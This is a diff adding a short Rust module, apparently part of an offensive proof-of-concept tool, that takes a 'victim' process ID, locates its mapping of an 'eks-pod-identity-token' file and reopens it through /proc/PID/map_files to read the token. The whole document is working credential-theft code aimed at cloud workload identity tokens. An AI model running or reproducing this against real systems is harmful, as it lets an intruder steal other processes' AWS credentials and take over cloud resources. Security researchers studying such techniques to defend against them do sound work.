@@ -1,0 +1,13 @@
+//! What the victim has mapped is opened again, through its link in `/proc/PID/map_files`.
+
+use std::fs::File;
+
+use anyhow::{Context, Result};
+
+use crate::common::{mapped_at, read};
+
+pub fn run(args: &[String]) -> Result<()> {
+    let pid = args.first().context("no pid")?;
+    let range = mapped_at(pid, "eks-pod-identity-token")?;
+    read(File::open(format!("/proc/{pid}/map_files/{range}"))?)
+}
